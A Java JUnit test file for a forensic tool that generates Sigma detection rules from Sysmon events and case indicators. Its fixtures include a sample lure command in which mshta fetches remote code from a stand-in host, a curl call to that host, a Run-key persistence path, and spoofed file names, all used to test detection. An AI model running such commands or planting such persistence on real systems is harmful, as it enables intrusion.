package io.ashiato.casefile.advice;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.params.provider.Arguments.argumentSet;

import io.ashiato.casefile.Made;
import io.ashiato.casefile.findings.FindingBuilder;
import io.ashiato.intel.AttackKnowledge;
import io.ashiato.model.CaseRule;
import io.ashiato.model.Confidence;
import io.ashiato.model.DeliveryChain;
import io.ashiato.model.Event;
import io.ashiato.model.Finding;
import io.ashiato.model.Indicator;
import io.ashiato.model.Level;
import io.ashiato.sigma.RuleFile;
import io.ashiato.sigma.RuleSet;
import java.time.Instant;
import java.util.List;
import java.util.Locale;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.FieldSource;

class CaseRulesTest {
    private static final Instant DATE = Instant.parse("2026-11-23T00:00:00Z");
    private static final String SYSMON = "Microsoft-Windows-Sysmon/Operational";
    private static final String SHA256 = "0123456789abcdef".repeat(4);
    private static final String RUN_KEY =
            "HKU\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater's *";

    private static final List<Indicator> INDICATORS = List.of(
            indicator("I-001", Indicator.Kind.DOMAIN, "update-check.example", Indicator.Role.CONTACTED),
            indicator("I-002", Indicator.Kind.IPV4, "203.0.113.7", Indicator.Role.CONTACTED),
            indicator("I-003", Indicator.Kind.SHA256, SHA256, Indicator.Role.PAYLOAD),
            indicator("I-004", Indicator.Kind.FILE_NAME, "Password.txt.lnk", Indicator.Role.LURE),
            indicator("I-005", Indicator.Kind.FILE_NAME, "winsvc.exe", Indicator.Role.PAYLOAD));

    private static final List<DeliveryChain> CHAINS = List.of(new DeliveryChain(
            "C-01",
            List.of(new DeliveryChain.Step(
                    DeliveryChain.Kind.COMMAND,
                    DeliveryChain.Joint.WOULD_RUN,
                    "mshta.exe http://update-check.example:8080/edit?id=1*2",
                    Optional.of("A-003"),
                    Optional.empty(),
                    Optional.empty()))));

    static final List<Arguments.ArgumentSet> FIRING = List.of(
            argumentSet("address in a command", "address-in-command", run("curl http://update-check.example/x")),
            argumentSet("address looked up", "address-looked-up", dns("update-check.example")),
            argumentSet("name below it looked up", "address-looked-up", dns("cdn.update-check.example")),
            argumentSet(
                    "address contacted",
                    "address-contacted",
                    event("3", "DestinationIp", "203.0.113.7", "DestinationPort", "443", "Initiated", "true")),
            argumentSet("file written", "file-written", event("11", "TargetFilename", "C:\\x\\Password.txt.lnk")),
            argumentSet(
                    "program run by digest",
                    "program-run",
                    event("1", "Image", "C:\\x\\y.exe", "Hashes", "MD5=00,SHA256=" + SHA256.toUpperCase(Locale.ROOT))),
            argumentSet("program run by name", "program-run", event("1", "Image", "C:\\x\\winsvc.exe")),
            argumentSet(
                    "value set", "registry-value-set", event("13", "EventType", "SetValue", "TargetObject", RUN_KEY)),
            argumentSet("lure's command", "lure-command", run("mshta  http://update-check.example:8080/edit?id=1*2")));

    @ParameterizedTest
    @FieldSource("FIRING")
    void firesOnWhatItWasMadeOf(String rule, Event event) {
        assertThat(rules(INDICATORS, event)).extracting(CaseRule::file).contains("as-0123456789-" + rule + ".yml");
    }

    @Test
    void everyRulePassesLint() {
        Event[] all = FIRING.stream().map(set -> (Event) set.get()[1]).toArray(Event[]::new);
        List<CaseRule> rules = rules(INDICATORS, all);
        assertThat(rules).hasSize(7).allSatisfy(CaseRulesTest::passesLint);
        assertThat(rules).allSatisfy(rule -> assertThat(rule.references()).isNotEmpty());
    }

    @Test
    void ofHostileValuesNoRuleIsBroken() {
        List<Indicator> hostile = List.of(
                indicator("I-001", Indicator.Kind.FILE_NAME, "it's: {a}\\ [*?] \"#\".exe", Indicator.Role.PAYLOAD),
                indicator("I-002", Indicator.Kind.FILE_NAME, "line\nbreak.exe", Indicator.Role.PAYLOAD),
                indicator("I-003", Indicator.Kind.FILE_NAME, "\u202egnp.exe.exe", Indicator.Role.PAYLOAD),
                indicator("I-004", Indicator.Kind.DOMAIN, "%41.'example", Indicator.Role.CONTACTED));
        Event event = event("1", "Image", "C:\\x\\it's: {a}\\ [*?] \"#\".exe");
        assertThat(rules(hostile, event)).isNotEmpty().allSatisfy(CaseRulesTest::passesLint);
    }

    @Test
    void aRuleThatMatchesNothingOfTheCaseIsNotGivenOut() {
        assertThat(rules(INDICATORS, run("notepad.exe"))).isEmpty();
    }

    @Test
    void anotherNameWithTheSameEndIsAnother() {
        assertThat(rules(INDICATORS, dns("notupdate-check.example"))).isEmpty();
    }

    @Test
    void theSameCaseGivesTheSameRules() {
        assertThat(rules(INDICATORS, dns("update-check.example")))
                .isEqualTo(rules(INDICATORS, dns("update-check.example")));
    }

    private static void passesLint(CaseRule rule) {
        RuleSet compiled = RuleSet.compile(List.of(new RuleFile(rule.file(), rule.yaml())));
        assertThat(compiled.problems()).as(rule.yaml()).isEmpty();
        assertThat(compiled.rules()).as(rule.yaml()).hasSize(1);
    }

    private static List<CaseRule> rules(List<Indicator> indicators, Event... events) {
        var rules = new CaseRules("AS-0123456789", DATE, findings(), indicators, CHAINS);
        for (Event event : events) {
            rules.observe(event);
        }
        return rules.finish();
    }

    private static List<Finding> findings() {
        var builder = new FindingBuilder(AttackKnowledge.builtIn());
        builder.accept(new io.ashiato.model.Detection(
                Made.rule("run-key", Level.HIGH), event("13", "EventType", "SetValue", "TargetObject", RUN_KEY)));
        return builder.finish();
    }

    private static Event run(String command) {
        return event("1", "Image", "C:\\Windows\\System32\\cmd.exe", "CommandLine", command);
    }

    private static Event dns(String name) {
        return event("22", "QueryName", name);
    }

    private static Event event(String id, String... data) {
        Event made = Made.event("2019-10-09T08:00:00Z", "A", SYSMON, id, data);
        return new Event(
                made.time(),
                made.host(),
                made.channel(),
                "Microsoft-Windows-Sysmon",
                id,
                made.data(),
                made.system(),
                new io.ashiato.model.RecordRef(
                        "a.evtx",
                        made.source().sha256(),
                        java.util.Arrays.hashCode(data),
                        made.source().recordId(),
                        made.source().headerId()));
    }

    private static Indicator indicator(String id, Indicator.Kind kind, String value, Indicator.Role role) {
        return new Indicator(
                id,
                kind,
                value,
                role,
                Optional.empty(),
                Optional.empty(),
                Confidence.MODERATE,
                List.of(),
                List.of(),
                true);
    }
}
